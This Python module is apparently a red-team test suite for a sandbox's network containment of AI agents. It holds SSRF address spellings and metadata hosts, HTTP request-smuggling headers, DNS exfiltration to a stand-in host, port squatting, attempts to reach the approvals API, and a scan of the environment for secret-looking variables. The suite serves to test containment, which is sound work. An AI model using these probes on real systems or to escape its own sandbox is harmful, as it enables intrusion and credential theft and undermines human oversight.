"""Attempts on the network: around the doors, through the egress door, and at the broker."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable, Iterator

from .attempts import Attempt, Facts, SkipAttempt, collect

BROKER, PROXY = 8082, 3128
SECONDS = 6
BESIDE = (
    ("1.1.1.1", 80),
    ("8.8.8.8", 53),
    ("169.254.169.254", 80),
    ("10.0.0.1", 22),
    ("172.17.0.1", 2375),
    ("192.168.0.1", 80),
    ("2606:4700:4700::1111", 443),
    ("fe80::1", 80),
)
INWARD = (
    "127.0.0.1",
    "localhost",
    "localhost.",
    "0.0.0.0",  # noqa: S104  a name to be refused
    "127.1",
    "0177.0.0.1",
    "0x7f.1",
    "2130706433",
    "[::]",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[64:ff9b::7f00:1]",
    "\u2460\u2461\u2466.0.0.1",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "10.0.0.1",
    "192.168.0.1",
    "user@127.0.0.1",
)
CROOKED = {
    "two framings": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "two lengths": "Content-Length: 5\r\nContent-Length: 6\r\n",
    "a space before the colon": "Transfer-Encoding : chunked\r\n",
    "a folded line": "X: y\r\n folded\r\n",
    "a bare line end": "X: y\nTransfer-Encoding: chunked\r\n",
    "two hosts": "Host: other.example\r\n",
    "an odd coding": "Transfer-Encoding: identity, chunked\r\n",
    "an odd length": "Content-Length: +5\r\n",
    "a NUL": "X: a\0b\r\n",
}
PROVIDERS = ("api.openai.com", "api.anthropic.com", "generativelanguage.googleapis.com")
NAMES = (
    "OPENAI",
    "%6fpenai",
    "openai%00",
    "__proto__",
    "..",
    "%2e%2e/v1",
    "custom/NOT_MINE_AT_ALL?target=https://example.com",
    "openai/../../v1/approvals",
)
MANAGEMENT = (
    "openai/v1/organization/admin_api_keys",
    "openai/v1/files",
    "anthropic/v1/organizations/api_keys",
)


def _say(port: int, request: bytes) -> str:
    """Return the first line of a door's answer; "closed" without one."""
    with socket.create_connection(("127.0.0.1", port), SECONDS) as door:
        door.settimeout(SECONDS)
        door.sendall(request)
        answer = door.recv(65536)
    return answer.split(b"\r\n", 1)[0].decode("latin-1") or "closed"


def _acceptance(line: str) -> str | None:
    """Return None for a refusal: a status of 400 or more, or a closed connection."""
    words = line.split()
    if len(words) < 2 or not words[1].isdigit():
        return None if line == "closed" else line
    return None if int(words[1]) >= 400 else line


def _send_request(port: int, request: bytes) -> Callable[[], object]:
    def act() -> object:
        try:
            return _acceptance(_say(port, request))
        except ConnectionRefusedError as error:
            raise SkipAttempt(f"nothing listens at port {port}") from error
        except (ConnectionError, TimeoutError):
            return None

    return act


def _connect(authority: str) -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()


def _get(target: str, host: str, more: str = "") -> bytes:
    head = f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"
    return head.encode("utf-8", "surrogateescape")


def straight_out(_facts: Facts) -> str:
    """Leave without a door, by TCP, UDP and ICMP (threats 61, 77)."""

    def reach(address: tuple[str, int], kind: int) -> Callable[[], object]:
        def act() -> object:
            family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
            with socket.socket(family, kind) as out:
                out.settimeout(3)
                out.connect(address)
                out.send(b"x")
                return "sent"

        return act

    kinds = (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM))
    tries = [(f"{name} {at[0]}", reach(at, kind)) for at in BESIDE for name, kind in kinds]
    return collect([*tries, ("icmp", _ping), ("interfaces", _interfaces), ("packets", _packets)])


def _ping() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
        out.sendto(b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0))
        return "sent"


def _packets() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW):
        return "a raw socket"


def _interfaces() -> object:
    others = [name for _number, name in socket.if_nameindex() if name != "lo"]
    return others or None


def lookups(_facts: Facts) -> str:
    """Send words out by a resolver (threat 62)."""

    def look() -> object:
        return socket.getaddrinfo("secret.atoll-redteam.example", 80)

    return collect([("a name", look)])


def inward(facts: Facts) -> str:
    """Reach the machine and its neighbours by every spelling of their addresses (threats 64,
    74)."""
    ports = {22, 80, int(facts.values.get("api_port") or 80)} - set(facts.words("host_ports"))
    tries = []
    for host in INWARD:
        for port in sorted(ports):
            at = f"{host}:{port}"
            tries.append((f"CONNECT {at}", _send_request(PROXY, _connect(at))))
            tries.append((f"GET {at}", _send_request(PROXY, _get(f"http://{at}/", at))))
    return collect(tries)


def ports(facts: Facts) -> str:
    """Reach ports that are on no list, and values that are no port (threat 67)."""
    if facts.text("mode") == "full":
        raise SkipAttempt("the network mode is full: any port of a public address is allowed")
    odd = ("github.com:22", "github.com:25", "github.com:0", "github.com:443x", "github.com",
           "github.com:65536", "github.com:-1", ":443")  # fmt: skip
    return collect((authority, _send_request(PROXY, _connect(authority))) for authority in odd)


def unlisted_names(facts: Facts) -> str:
    """Reach names that are on no list (threat 62)."""
    if facts.text("mode") == "full":
        raise SkipAttempt("the network mode is full")
    name = "c2VjcmV0.atoll-redteam.example"
    return collect([
        ("CONNECT", _send_request(PROXY, _connect(f"{name}:443"))),
        ("GET", _send_request(PROXY, _get(f"http://{name}/", name))),
    ])  # fmt: skip


def providers(_facts: Facts) -> str:
    """Reach a model provider through the egress door, with another key (threat 76)."""
    return collect((host, _send_request(PROXY, _connect(f"{host}:443"))) for host in PROVIDERS)


def smuggling(_facts: Facts) -> str:
    """Send requests that two readers could split in two ways, at both doors (threat 72)."""

    def tries() -> Iterator[tuple[str, Callable[[], object]]]:
        for name, more in CROOKED.items():
            plain = _get("http://github.com/", "github.com", more)
            yield f"egress, {name}", _send_request(PROXY, plain)
            broker = _get("/broker/openai/v1/models", "127.0.0.1", more)
            yield f"broker, {name}", _send_request(BROKER, broker)

    return collect(tries())


def squatting(_facts: Facts) -> str:
    """Take a door's port (threat 78)."""

    def take(family: int, host: str, port: int) -> Callable[[], object]:
        def act() -> object:
            with socket.socket(family) as mine:
                mine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                mine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                mine.bind((host, port))
                return "taken"

        return act

    hosts = (
        (socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"),  # noqa: S104
        (socket.AF_INET6, "::1"), (socket.AF_INET6, "::"),
    )  # fmt: skip
    return collect(
        (f"{host} {port}", take(family, host, port))
        for family, host in hosts
        for port in (BROKER, PROXY)
    )


def broker_names(_facts: Facts) -> str:
    """Use other spellings of providers and secrets, and paths beyond inference (threat 89)."""
    tries = [
        (name, _send_request(BROKER, _get(f"/broker/{name}", "127.0.0.1")))
        for name in (*NAMES, *MANAGEMENT)
    ]
    tries += [
        ("CONNECT", _send_request(BROKER, _connect("127.0.0.1:22"))),
        ("absolute", _send_request(BROKER, _get("http://169.254.169.254/", "169.254.169.254"))),
    ]
    return collect(tries)


def control_plane(facts: Facts) -> str:
    """Reach the API, where approvals are given (threat 96)."""
    host, port = facts.text("api_host") or "127.0.0.1", int(facts.values.get("api_port") or 80)

    def straight() -> object:
        with socket.create_connection((host, port), 3):
            return "connected"

    at = f"{host}:{port}"
    return collect([
        ("straight", straight),
        ("by the egress door", _send_request(PROXY, _get(f"http://{at}/v1/approvals", at))),
        ("by the broker", _send_request(BROKER, _get("/v1/approvals", "127.0.0.1"))),
    ])  # fmt: skip


def variables(_facts: Facts) -> str:
    """Find environment variables that look like a key and are no placeholder."""
    telling = ("KEY", "TOKEN", "SECRET", "PASSWORD")
    names = [
        name
        for name, value in os.environ.items()
        if name.upper().endswith(telling) and value and "atoll" not in value
    ]
    return ", ".join(names)


ATTEMPTS = [
    Attempt("61", "leave without a door", straight_out),
    Attempt("62", "ask a resolver", lookups),
    Attempt("62", "name hosts that are not allowed", unlisted_names),
    Attempt("64", "reach inner addresses through the egress door", inward),
    Attempt("67", "reach ports that are not allowed", ports),
    Attempt("72", "smuggle requests through the doors", smuggling),
    Attempt("76", "reach model providers past the broker", providers),
    Attempt("78", "take the doors' ports", squatting),
    Attempt("89", "use the broker for what it is not for", broker_names),
    Attempt("96", "reach the API from inside", control_plane),
    Attempt("79", "find keys in the environment", variables),
]
